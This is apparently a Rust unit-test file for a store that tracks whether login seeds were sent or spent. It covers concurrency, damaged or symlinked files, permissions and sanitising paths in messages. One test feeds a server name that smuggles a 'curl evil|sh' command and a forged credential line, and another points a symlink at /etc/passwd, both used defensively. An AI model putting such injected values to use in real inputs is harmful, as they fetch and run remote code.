use super::*;
use crate::store::testing::Folder;
use std::os::unix::fs::PermissionsExt;

fn held(slot: &Slot) -> Held {
    slot.token_lock().try_take().unwrap().unwrap()
}

#[test]
fn a_seed_that_was_spent_stays_spent() {
    let folder = Folder::new();
    let store = folder.store();
    let slot = Slot::new(&store, "demo");
    let (held, one, two) = (held(&slot), Secret::new("one"), Secret::new("two"));
    assert_eq!(slot.seed_use(&one).unwrap(), SeedUse::Fresh);
    assert!(!slot.seeds_path().exists(), "looking writes nothing");
    slot.mark_seed(&held, &one, SeedUse::Sent).unwrap();
    slot.mark_seed(&held, &two, SeedUse::Sent).unwrap();
    assert_eq!(slot.seed_use(&one).unwrap(), SeedUse::Sent);
    slot.mark_seed(&held, &two, SeedUse::Fresh).unwrap();
    assert_eq!(slot.seed_use(&two).unwrap(), SeedUse::Fresh);
    slot.mark_seed(&held, &one, SeedUse::Spent).unwrap();
    slot.mark_seed(&held, &one, SeedUse::Fresh).unwrap();
    assert_eq!(slot.seed_use(&one).unwrap(), SeedUse::Spent);
    assert_eq!(Slot::new(&store, "other").seed_use(&one).unwrap(), SeedUse::Fresh);
}

#[test]
fn what_one_name_has_sent_no_other_one_sends_wherever_its_records_lie() {
    let folder = Folder::new();
    let store = folder.store();
    let apart = store.at(folder.path().join("apart")).beside(vec![store.cache().to_owned()]);
    apart.prepare().unwrap();
    let slots = [Slot::new(&store, "demo"), Slot::new(&store, "twin"), Slot::new(&apart, "demo")];
    let held = slots.each_ref().map(held);
    let seed = Secret::new("seed");
    assert!(slots[0].begin_seed(&held[0], &seed).unwrap());
    assert!(slots[0].begin_seed(&held[0], &seed).unwrap(), "no complete answer came");
    for number in [1, 2] {
        assert!(!slots[number].begin_seed(&held[number], &seed).unwrap());
        assert_eq!(slots[number].seed_use(&seed).unwrap(), SeedUse::Fresh);
    }
    slots[0].mark_seed(&held[0], &seed, SeedUse::Fresh).unwrap();
    assert!(slots[1].begin_seed(&held[1], &seed).unwrap(), "the answer said that nothing was spent");
    // As an older version left it: both have sent it.
    slots[0].mark_seed(&held[0], &seed, SeedUse::Sent).unwrap();
    assert!(slots[1].begin_seed(&held[1], &seed).unwrap());
    slots[0].mark_seed(&held[0], &seed, SeedUse::Spent).unwrap();
    assert!(!slots[1].begin_seed(&held[1], &seed).unwrap());
    let by = |slot: &Slot| slot.seed_elsewhere(&seed, SeedUse::Fresh).unwrap().unwrap().to_string();
    assert_eq!(by(&slots[1]), "`demo`");
    assert_eq!(by(&slots[2]), format!("`demo` in {}", store.cache().display()));
    assert!(slots[1].begin_seed(&held[1], &Secret::new("new")).unwrap());
}

#[test]
fn of_two_names_at_the_same_moment_one_sends_a_seed() {
    let folder = Folder::new();
    let store = folder.store();
    let slots = ["demo", "twin"].map(|name| Slot::new(&store, name));
    let held = slots.each_ref().map(held);
    for round in 0..40 {
        let (seed, start) = (Secret::new(round.to_string()), std::sync::Barrier::new(2));
        let begin = |number: usize| {
            start.wait();
            slots[number].begin_seed(&held[number], &seed).unwrap()
        };
        let sends = std::thread::scope(|scope| {
            let twin = scope.spawn(|| begin(1));
            [begin(0), twin.join().unwrap()]
        });
        assert_eq!(sends.into_iter().filter(|sends| *sends).count(), 1, "{round}");
    }
}

#[test]
fn what_is_wrong_with_the_list_of_another_name_bars_no_seed() {
    let folder = Folder::new();
    let store = folder.store();
    let (one, other) = (Slot::new(&store, "demo"), Slot::new(&store, "other"));
    let held = held(&other);
    let list = one.seeds_path();
    let linked = |path: &Path| std::os::unix::fs::symlink("/etc/passwd", path).unwrap();
    let large = vec![b'x'; usize::try_from(file::SIZE_LIMIT).unwrap() + 1];
    let faults: [&dyn Fn(&Path); 5] = [
        &|path| std::fs::write(path, "junk").unwrap(),
        &|path| std::fs::write(path, r#"{"format":99}"#).unwrap(),
        &|path| std::fs::write(path, &large).unwrap(),
        &linked,
        &|path| std::fs::create_dir(path).unwrap(),
    ];
    for (number, spoil) in faults.iter().enumerate() {
        spoil(&list);
        assert!(other.begin_seed(&held, &Secret::new(number.to_string())).unwrap(), "{number}");
        let _ = std::fs::remove_file(&list);
    }
}

#[test]
fn what_is_wrong_with_another_directory_bars_no_seed() {
    let folder = Folder::new();
    let (file, looped) = (folder.path().join("file"), folder.path().join("looped"));
    std::fs::write(&file, "").unwrap();
    std::os::unix::fs::symlink(&looped, &looped).unwrap();
    let long = folder.path().join("x".repeat(300));
    let store = folder.store().beside(vec![file.join("below"), file.clone()]);
    store.key_for_writing().expect("no records lie there");
    let store = store.beside(vec![file.join("below"), file, looped, long]);
    let slot = Slot::new(&store, "demo");
    assert!(slot.begin_seed(&held(&slot), &Secret::new("seed")).unwrap());
}

#[test]
fn a_directory_that_others_can_write_to_tells_nothing() {
    let folder = Folder::new();
    let store = folder.store();
    let apart = store.at(folder.path().join("apart"));
    apart.prepare().unwrap();
    let (there, seed) = (Slot::new(&apart, "twin"), Secret::new("seed"));
    there.mark_seed(&held(&there), &seed, SeedUse::Spent).unwrap();
    let store = store.beside(vec![apart.cache().to_owned()]);
    let slot = Slot::new(&store, "demo");
    assert!(slot.seed_elsewhere(&seed, SeedUse::Fresh).unwrap().is_some());
    std::fs::set_permissions(apart.cache(), std::fs::Permissions::from_mode(0o777)).unwrap();
    assert_eq!(slot.seed_elsewhere(&seed, SeedUse::Fresh).unwrap(), None);
}

#[test]
fn a_file_whose_name_is_no_name_of_a_server_is_not_looked_into() {
    let folder = Folder::new();
    let store = folder.store();
    let seed = Secret::new("seed");
    for name in ["\x1b[2Jx; curl evil|sh #`id`\nmcp-credential: fine", "..", "", "-x"] {
        let strange = Slot::new(&store, name);
        std::fs::write(strange.seeds_path(), "").unwrap();
        strange.write_seeds(&Known { spent: vec![fingerprint(&seed)], ..Known::default() }).unwrap();
    }
    let slot = Slot::new(&store, "demo");
    assert_eq!(slot.seed_elsewhere(&seed, SeedUse::Fresh).unwrap(), None);
}

#[test]
fn a_path_is_plain_in_every_message_about_it() {
    let folder = Folder::new();
    let store = folder.store().at(folder.path().join("x\x1b[2J\ny"));
    store.prepare().unwrap();
    store.key_for_writing().unwrap();
    let slot = Slot::new(&store, "demo");
    std::fs::write(slot.seeds_path(), "junk").unwrap();
    let damaged = slot.seed_use(&Secret::new("seed")).unwrap_err();
    std::fs::remove_file(slot.seeds_path()).unwrap();
    std::fs::create_dir(slot.seeds_path()).unwrap();
    let irregular = slot.seed_use(&Secret::new("seed")).unwrap_err();
    std::fs::set_permissions(store.cache(), std::fs::Permissions::from_mode(0o777)).unwrap();
    for failure in [damaged, irregular, store.check().unwrap_err()] {
        let text = failure.message;
        assert!(text.contains(r"x\u{1b}[2J y") && !text.contains(char::is_control), "{text:?}");
    }
}

#[test]
fn what_was_only_sent_elsewhere_is_told_from_what_was_spent() {
    let folder = Folder::new();
    let store = folder.store();
    let (one, other) = (Slot::new(&store, "demo"), Slot::new(&store, "other"));
    let (held, seed) = (held(&one), Secret::new("seed"));
    for known in [SeedUse::Sent, SeedUse::Spent] {
        one.mark_seed(&held, &seed, known).unwrap();
        let found = other.seed_elsewhere(&seed, SeedUse::Fresh).unwrap().unwrap();
        assert_eq!(found, Elsewhere { name: "demo".to_owned(), place: None, known });
    }
}

#[test]
fn a_state_directory_that_somebody_keeps_locked_lets_nothing_be_sent() {
    let folder = Folder::new();
    let store = folder.store();
    let slot = Slot::new(&store, "demo");
    let _stranger = lock_directory(store.home(), Duration::ZERO).unwrap().unwrap();
    let failure = slot.begin_seed(&held(&slot), &Secret::new("seed")).unwrap_err();
    assert_eq!(failure.code, Code::LockTimeout);
    assert!(failure.message.contains("nothing was sent"), "{failure}");
    assert!(!slot.seeds_path().exists());
}

#[test]
fn an_erased_login_takes_sent_and_configured_seeds_with_it() {
    let folder = Folder::new();
    let store = folder.store();
    let slot = Slot::new(&store, "demo");
    let (held, sent, configured) = (held(&slot), Secret::new("sent"), Secret::new("configured"));
    slot.spend_seeds(&held, &[], false).unwrap();
    assert!(!slot.seeds_path().exists(), "nothing is written about nothing");
    slot.mark_seed(&held, &sent, SeedUse::Sent).unwrap();
    slot.spend_seeds(&held, &[&configured], false).unwrap();
    for seed in [&sent, &configured] {
        assert_eq!(slot.seed_use(seed).unwrap(), SeedUse::Spent);
    }
}

#[test]
fn what_cannot_be_read_back_is_damage_and_never_counts_as_unspent() {
    let folder = Folder::new();
    let store = folder.store();
    let (slot, seed) = (Slot::new(&store, "demo"), Secret::new("seed"));
    let held = held(&slot);
    slot.mark_seed(&held, &seed, SeedUse::Spent).unwrap();
    let written = std::fs::read_to_string(slot.seeds_path()).unwrap();
    assert!(!written.contains("seed\"") && !written.contains(&fingerprint(&seed)));
    std::fs::write(slot.seeds_path(), written.replace("\"clear\":{}", "\"clear\":{ }")).unwrap();
    assert_eq!(slot.seed_use(&seed).unwrap_err().code, Code::CacheDamaged);
    assert_eq!(slot.mark_seed(&held, &seed, SeedUse::Sent).unwrap_err().code, Code::CacheDamaged);
    assert_eq!(slot.spend_seeds(&held, &[&seed], false).unwrap_err().code, Code::CacheDamaged);
    slot.spend_seeds(&held, &[], false).unwrap();
    slot.spend_seeds(&held, &[&seed], true).unwrap();
    assert_eq!(slot.seed_use(&seed).unwrap(), SeedUse::Spent);
}

#[test]
fn what_cannot_be_read_back_goes_with_the_login_also_where_nothing_takes_its_place() {
    let folder = Folder::new();
    let store = folder.store();
    let (slot, seed) = (Slot::new(&store, "demo"), Secret::new("seed"));
    let held = held(&slot);
    slot.mark_seed(&held, &seed, SeedUse::Spent).unwrap();
    std::fs::remove_file(store.key_path()).unwrap();
    slot.spend_seeds(&held, &[], false).unwrap();
    assert!(slot.seeds_path().exists(), "not without being asked");
    slot.spend_seeds(&held, &[], true).unwrap();
    assert!(!slot.seeds_path().exists() && !store.key_path().exists());
    slot.mark_seed(&held, &seed, SeedUse::Spent).unwrap();
    slot.spend_seeds(&held, &[], true).unwrap();
    assert_eq!(slot.seed_use(&seed).unwrap(), SeedUse::Spent, "what can be read stays");
}

#[test]
fn the_file_does_not_grow_for_ever() {
    let mut known = Known::default();
    for number in 0..LIMIT + 3 {
        known.mark(&number.to_string(), SeedUse::Spent);
    }
    assert_eq!((known.spent.len(), known.spent[0].as_str()), (LIMIT, "3"));
}
